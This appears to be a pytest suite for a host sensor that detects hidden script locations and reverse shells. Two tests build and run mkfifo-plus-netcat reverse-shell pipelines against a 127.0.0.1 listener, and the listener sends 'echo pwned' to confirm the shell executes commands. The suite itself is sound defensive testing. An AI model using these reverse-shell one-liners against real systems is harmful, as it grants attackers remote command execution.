"""Scripts that hide their place, and the reverse shell a script assembles from fds:
run for real under the probe (both modes), judged by the packs. Every connection goes to
a listener on 127.0.0.1; the shell at its end is sent `exit` at once."""

from __future__ import annotations

import json
import socket
import subprocess
import threading
import time
import uuid
from pathlib import Path
from typing import Any, Iterator

import pytest

from osquery_netutil.events.sensor import Sensor

from tests.packs.test_detections import detections
from tests.packs.test_evasions import stored
from testkit.support import write_executable

pytestmark = pytest.mark.probe


@pytest.mark.parametrize("how", [
    "bash < {script}",
    "bash -c '. {script}'",
    "cd {dir} && bash -c 'true; source ./x.sh'",
    "bash /dev/fd/3 3< {script}",
    "cat {script} | bash",
    "bash -c 'bash <(cat {script})'",
], ids=["stdin", "dot-in-c", "source-relative", "dev-fd", "piped", "process-substitution"])
def test_a_script_whose_place_is_not_in_argv_is_found(sensor: Sensor, workdir: Path, how: str) -> None:
    """The interpreter's argv names no file in a writable directory: its stdin, the file
    its -c string sources, the fd it reads, or the file its pipe's writer read is the
    script. Read while the interpreter lives: the script sleeps after nc, as any script
    doing more than one thing would."""
    tag = uuid.uuid4().hex[:10]
    script = workdir / "x.sh"
    script.write_text(f"nc -h {tag} 2>/dev/null\nsleep 1\n")
    subprocess.run(["/bin/sh", "-c", how.format(script=script, dir=workdir)], capture_output=True, timeout=30)
    (hit,) = detections(sensor, "netutil_host_suspicious_location", tag)
    assert (hit["reason"], hit["suspicious_path"]) == ("script in a writable directory", str(script))


def test_an_interpreter_on_a_terminal_a_builtins_pipe_or_null_has_no_script(sensor: Sensor, workdir: Path) -> None:
    """bash reading what a builtin writes (echo … | bash: no file behind it; and
    `sh -c "$(cat x)"`, whose string is the text, stays as hidden) or /dev/null names no script."""
    tag = uuid.uuid4().hex[:10]
    script = workdir / "x.sh"
    script.write_text(f"nc -h {tag}-subst 2>/dev/null; sleep 1\n")
    subprocess.run(["/bin/sh", "-c", f"echo 'nc -h {tag}-echo 2>/dev/null; sleep 1' | bash"], capture_output=True, timeout=30)
    subprocess.run(["/bin/sh", "-c", f'sh -c "$(cat {script})"'], capture_output=True, timeout=30)
    subprocess.run(["bash", "-c", f"nc -h {tag}-null 2>/dev/null; sleep 1"], stdin=subprocess.DEVNULL, timeout=30)
    rows = stored(sensor, f"{tag}-null")   # the last: the others are there by then
    rows = stored(sensor, tag)
    assert len(rows) == 3
    for row in rows:
        assert not any(a.get("script", "").startswith(str(workdir)) for a in json.loads(row["ancestors"])), row["ancestors"]


def to_port(sensor: Sensor, port: int) -> list[dict[str, Any]]:
    """The rows of execs whose last argument is port (`nc … 127.0.0.1 PORT`): a port that
    is the start of another's (3456, 34567) is not theirs."""
    deadline = time.monotonic() + 10
    while True:
        rows = [r for r in stored(sensor, f"127.0.0.1 {port}") if r["cmdline"].endswith(f" {port}")]
        if rows or time.monotonic() > deadline:
            return rows
        time.sleep(0.2)


class _Listener:
    """A TCP listener on 127.0.0.1 that, per connection, sends `lines` and closes."""

    def __init__(self, lines: bytes) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(20)
        self.port = self.sock.getsockname()[1]
        self.lines = lines
        self.received = b""
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        try:
            conn, _ = self.sock.accept()
        except OSError:
            return
        with conn:
            conn.settimeout(3)
            conn.sendall(self.lines)
            try:
                while chunk := conn.recv(4096):
                    self.received += chunk
            except OSError:
                pass

    def close(self) -> None:
        self.sock.close()
        self._thread.join(10)


@pytest.fixture
def listener() -> Iterator[_Listener]:
    server = _Listener(b"sleep 1; echo pwned; exit\n")
    yield server
    server.close()


@pytest.mark.parametrize("pipeline", [
    "nc 127.0.0.1 {port} < f | sh -i > f 2>&1",
    "cat f | /bin/bash -i 2>&1 | nc 127.0.0.1 {port} > f",
], ids=["nc-into-shell", "shell-into-nc"])
def test_a_reverse_shell_assembled_in_a_script_file_is_caught(
        sensor: Sensor, workdir: Path, listener: _Listener, pipeline: str) -> None:
    """mkfifo and the pipeline are in the script, in no argv: nc's fds give it away."""
    tag = uuid.uuid4().hex[:10]
    script = write_executable(workdir / f"r-{tag}.sh",
                              f"#!/bin/sh\ncd {workdir}\nrm -f f; mkfifo f\n{pipeline.format(port=listener.port)}\n")
    subprocess.run([str(script)], capture_output=True, timeout=30)
    assert b"pwned" in listener.received   # the shell did run what the listener sent
    rows = [r for r in to_port(sensor, listener.port) if r["utility"] == "netcat"]
    (row,) = rows
    (hit,) = [h for h in detections(sensor, "netutil_piped_shell", str(listener.port)) if h["eid"] == row["eid"]]
    peers = json.loads(row["pipe_peers"])
    assert any(p["path"] in ("/usr/bin/dash", "/usr/bin/bash") and not p["forked"] for p in peers), peers
    assert f"fifo:{workdir}/f" in (row["stdin"], row["stdout"]), (row["stdin"], row["stdout"])
    assert "shell" in hit["message"]


def test_a_script_piping_data_into_nc_is_no_shell(sensor: Sensor, workdir: Path, listener: _Listener) -> None:
    """printf … | nc (a subshell running a builtin: never exec'd) and a script's output
    into nc (bash collect.sh | nc: a shell on a script feeds, it reads no commands)."""
    collect = workdir / "collect.sh"
    collect.write_text("echo metric 1\nsleep 0.5\n")
    second = _Listener(b"")
    try:
        script = write_executable(workdir / "feed.sh", (
            f"#!/bin/sh\nprintf 'stats\\n' | nc -q1 127.0.0.1 {listener.port}\n"
            f"bash {collect} | nc -q1 127.0.0.1 {second.port}\n"))
        subprocess.run([str(script)], capture_output=True, timeout=30)
        (fed,) = to_port(sensor, second.port)
        (printed,) = to_port(sensor, listener.port)
        assert fed["stdin"] == printed["stdin"] == "pipe"
        assert [p["script"] for p in json.loads(fed["pipe_peers"])] == [str(collect)]   # bash lives 0.5 s
        for port in (listener.port, second.port):
            assert detections(sensor, "netutil_piped_shell", f"127.0.0.1 {port}", timeout=1) == []
    finally:
        second.close()
